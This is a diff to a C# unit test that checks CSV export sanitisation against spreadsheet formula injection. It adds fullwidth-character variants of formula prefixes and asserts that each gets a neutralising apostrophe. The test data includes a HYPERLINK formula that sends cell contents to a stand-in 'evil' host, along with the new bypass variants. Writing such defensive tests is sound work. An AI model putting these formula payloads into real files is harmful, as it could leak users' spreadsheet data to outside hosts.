@@ -131,6 +131,8 @@ public class TextTableTests
             new { Name = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", Profit = -12.5m, Change = "-3.5%" },
             new { Name = "@SUM(1+1)", Profit = 3m, Change = "+1,234.50" },
             new { Name = "-pre-order", Profit = 0m, Change = "\tTAB" },
+            new { Name = "＝HYPERLINK(\"http://evil\")", Profit = 1m, Change = "＋1" },
+            new { Name = "＠SUM(1)", Profit = 2m, Change = "－1" },
         };
         using var output = new StringWriter();
         using var error = new StringWriter();
@@ -141,7 +143,8 @@ public class TextTableTests
             new Dictionary<string, object?>());
 
         Assert.Equal(string.Join("\r\n", "name,profit,change", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",-12.5,-3.5%",
-            "'@SUM(1+1),3,\"+1,234.50\"", "'-pre-order,0,'\tTAB", ""), output.ToString());
+            "'@SUM(1+1),3,\"+1,234.50\"", "'-pre-order,0,'\tTAB",
+            "\"'＝HYPERLINK(\"\"http://evil\"\")\",1,'＋1", "'＠SUM(1),2,'－1", ""), output.ToString());
         Assert.Equal(string.Join("\r\n", "Name,Change", "'=1+1,-3.5%", "plain,\"-1,234.50\"", ""), rows.ToString());
     }
 
